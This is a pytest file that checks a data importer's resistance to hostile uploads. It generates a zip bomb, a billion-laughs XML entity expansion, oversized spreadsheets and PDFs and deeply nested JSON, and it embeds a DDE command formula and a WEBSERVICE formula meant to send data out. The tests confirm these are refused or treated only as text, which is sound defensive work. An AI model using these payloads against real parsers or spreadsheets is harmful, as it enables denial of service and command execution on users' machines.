"""Files made to hurt end in a clear error, within three times what a good file takes and 300 MB."""

import io
import json
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from coalition_site.importers.formats.open_file import read_filled
from coalition_site.importers.sources import Sheet
from coalition_site.problems import Refused
from tests.support.case_files import BASE
from tests.support.importing import planned
from tests.support.workbooks import workbook

SECONDS = 2.0
MOST_TIMES = 3
"""A hostile file may take so many times the processor of a good one; machines differ by more than seconds may."""
_GOOD = "good"
MEGABYTES = 300
_SHEET = "xl/worksheets/sheet1.xml"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def good() -> bytes:
    """A workbook with one partner."""
    return workbook("[S]\nName | Type\nOrg | Nonprofit\n")


def with_sheet(xml: bytes) -> bytes:
    """A workbook whose one sheet holds other XML."""
    return with_part(_SHEET, xml)


def with_part(part: str, xml: bytes) -> bytes:
    """A workbook with other XML in one of its parts."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook("[S]\nName | Type\n"))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for info in old.infolist():
            new.writestr(info.filename, xml if info.filename == part else old.read(info))
    return out.getvalue()


def sheet(rows: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?><worksheet xmlns="{_MAIN}">{before}<sheetData>{rows}</sheetData></worksheet>'.encode()


def many_columns() -> bytes:
    return with_sheet(sheet("<row r='1'>" + "<c><v>1</v></c>" * 1_000_000 + "</row>"))


def far_away() -> bytes:
    return with_sheet(sheet("<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>x</t></is></c></row>"))


def false_size() -> bytes:
    cells = "<row r='1'><c r='A1' t='inlineStr'><is><t>Name</t></is></c></row>"
    return with_sheet(sheet(cells, "<dimension ref='A1:XFD1048576'/>"))


def outside_the_grid() -> bytes:
    return with_sheet(sheet("<row r='1'><c r='BDWGN1'><v>1</v></c></row>"))


def bomb() -> bytes:
    return with_sheet(b" " * 400_000_000)


def entities() -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + b"a" * 1000 + b'">'
    more = b"".join(
        b'<!ENTITY a%d "' % n + b"&a%s;" % (str(n - 1).encode() if n else b"") * 10 + b'">' for n in range(9)
    )
    return with_sheet(head + more + b"]><worksheet>&a8;</worksheet>")


def many_formats() -> bytes:
    styles = f"<styleSheet xmlns='{_MAIN}'><cellXfs>" + "<xf/>" * 2_000_000 + "</cellXfs></styleSheet>"
    return with_part("xl/styles.xml", styles.encode())


def many_sheets() -> bytes:
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    sheets = "".join(f"<sheet name='S{number}' sheetId='{number}' r:id='rId1'/>" for number in range(1, 3000))
    return with_part(
        "xl/workbook.xml",
        f"<workbook xmlns='{_MAIN}' xmlns:r='{relations}'><sheets>{sheets}</sheets></workbook>".encode(),
    )


def long_cell() -> bytes:
    return with_sheet(sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>" + "A, " * 3_000_000 + "</t></is></c></row>"))


def many_objects() -> bytes:
    """A PDF without the table that says where its objects are: all of it is searched for them."""
    return b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n<</A 1>>\nendobj\n" % number for number in range(100_000))


def many_fields() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    fields = [pdf.make_indirect(Dictionary(T=String(f"a{number}"), FT=Name.Tx)) for number in range(150_000)]
    pdf.Root.AcroForm = Dictionary(Fields=Array(fields))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


FILES: dict[str, Callable[[], bytes]] = {
    "many columns": many_columns,
    "a cell far away": far_away,
    "a cell outside the grid": outside_the_grid,
    "a zip bomb": bomb,
    "entities": entities,
    "many formats": many_formats,
    "many sheets": many_sheets,
    "a cell as long as a book": long_cell,
    "not a zip": lambda: b"PK\x03\x04 nothing",
    "a cut pdf": lambda: b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 1 0 R",
    "a pdf of many objects": many_objects,
    "a pdf of many fields": many_fields,
    "nested json": lambda: b"[" * 200_000,
}


@pytest.fixture(scope="module")
def ended(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """How the command ended for each of the files: its exit code, what it said, and what it needed."""
    folder = tmp_path_factory.mktemp("hostile")
    made = {**FILES, _GOOD: good}
    for number, (kind, make) in enumerate(made.items()):
        file = folder / str(number) / ("partners.json" if kind == "nested json" else "partners.xlsx")
        file.parent.mkdir()
        file.write_bytes(make())
    files = [str(file) for number in range(len(made)) for file in (folder / str(number)).iterdir()]
    done = subprocess.run([sys.executable, "-c", _PROGRAM, str(BASE), *files], capture_output=True, check=True)
    # A good file's plan is printed too.
    told = [json.loads(line) for line in done.stdout.splitlines() if line.startswith(b'{"code"')]
    return dict(zip(made, told, strict=True))


@pytest.mark.parametrize("kind", FILES)
def test_hostile_file_is_refused_in_time(kind: str, ended: dict[str, dict[str, Any]]) -> None:
    found = ended[kind]
    assert found["code"] == 1, found["said"][-2000:]
    message, nothing = found["said"].splitlines()
    assert message.startswith("partners.")
    assert len(message) < 300
    assert nothing == "Nothing was imported."
    assert found["megabytes"] < MEGABYTES
    assert found["seconds"] < MOST_TIMES * ended[_GOOD]["seconds"]


# The command as people type it: what it needs in all is what counts, the start included. That is made once: each file
# is read by a copy of the process that has started.
_PROGRAM = """
import json, os, resource, sys, time
from pathlib import Path
from coalition_site.cli.process import run_command_line

def ended(file):
    sys.argv[1:] = ['import', file, '--project', sys.argv[1]]
    sys.stderr = open(file + '.said', 'w', encoding='utf-8')
    code = run_command_line()
    sys.stderr.close()
    kilobytes = int(Path('/proc/self/status').read_text().split('VmHWM:')[1].split()[0])
    own, children = (resource.getrusage(who) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))
    seconds = sum(used.ru_utime + used.ru_stime for used in (own, children))
    megabytes = max(kilobytes, children.ru_maxrss) / 1024
    said = Path(file + '.said').read_text(encoding='utf-8')
    return {'code': code, 'said': said, 'megabytes': megabytes, 'seconds': START + seconds}

START = time.process_time()
for file in sys.argv[2:]:
    if os.fork():
        os.wait()
    else:
        print(json.dumps(ended(file)), flush=True)
        os._exit(0)
"""


def test_formulas_that_reach_outside_are_neither_run_nor_followed(tmp_path: Path) -> None:
    head = "<row r='1'><c r='A1' t='str'><v>Name</v></c><c r='B1' t='str'><v>Type</v></c></row>"
    row = (
        "<row r='{0}'><c r='A{0}' t='str'><f>cmd|'/C calc'!A0</f><v>Org {0}</v></c>"
        "<c r='B{0}' t='str'><f>WEBSERVICE(\"http://127.0.0.1:9/\"&amp;[1]S!A1)</f><v>Nonprofit</v></c></row>"
    )
    file = tmp_path / "partners.xlsx"
    file.write_bytes(with_sheet(sheet(head + "".join(row.format(number) for number in range(2, 3000)))))
    begun = time.process_time()
    (found,) = read_filled(file)
    assert time.process_time() - begun < SECONDS
    assert isinstance(found, Sheet)
    assert found.rows[1].cells == ("Org 2", "Nonprofit")
    assert (len(found.rows), found.lost) == (2999, ())


def test_many_names_alone_take_no_longer_than_their_number(tmp_path: Path) -> None:
    rows = "\n".join(["Organization", *(f"Org {number}" for number in range(4000))])
    (tmp_path / "names.csv").write_text(rows, encoding="utf-8")
    long = ", ".join(f"A{number} / and B" for number in range(6000))
    (tmp_path / "long.csv").write_text(f'Organization,Assets\nOrg,"{long}"\n', encoding="utf-8")
    begun = time.process_time()
    plan = planned(BASE, tmp_path / "names.csv", tmp_path / "long.csv").plan
    assert time.process_time() - begun < 4 * SECONDS
    assert len(plan.added) == 4001


def test_a_false_size_does_no_harm(tmp_path: Path) -> None:
    file = tmp_path / "partners.xlsx"
    file.write_bytes(false_size())
    (found,) = read_filled(file)
    assert isinstance(found, Sheet)
    assert [row.cells for row in found.rows] == [("Name",)]


def test_formulas_and_links_are_only_text(tmp_path: Path) -> None:
    formula = "<row r='1'><c r='A1' t='str'><f>HYPERLINK(A2)</f><v>Name</v></c><c r='B1'><f>1+1</f></c></row>"
    file = tmp_path / "partners.xlsx"
    file.write_bytes(with_sheet(sheet(formula)))
    (found,) = read_filled(file)
    assert isinstance(found, Sheet)
    assert [row.cells for row in found.rows] == [("Name", "")]


def test_a_file_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(Refused, match="there is no such file"):
        read_filled(tmp_path / "nothing.csv")
